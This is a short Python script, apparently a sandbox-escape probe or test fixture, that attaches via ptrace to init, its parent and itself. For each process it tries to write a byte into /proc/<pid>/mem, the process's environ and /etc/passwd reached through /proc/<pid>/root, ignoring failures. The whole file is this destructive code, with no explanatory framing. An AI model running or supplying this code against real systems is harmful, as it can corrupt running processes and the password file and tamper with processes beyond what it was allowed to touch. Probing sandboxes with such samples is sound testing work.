"""Attaches to the parent process, and writes into its memory."""
# base: solved
# where: first
# lost: nothing

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for who in (1, os.getppid(), os.getpid()):
    libc.ptrace(16, who, 0, 0)
    for path in (f"/proc/{who}/mem", f"/proc/{who}/root/etc/passwd", f"/proc/{who}/environ"):
        try:
            open(path, "r+b").write(b"x")
        except OSError:
            pass
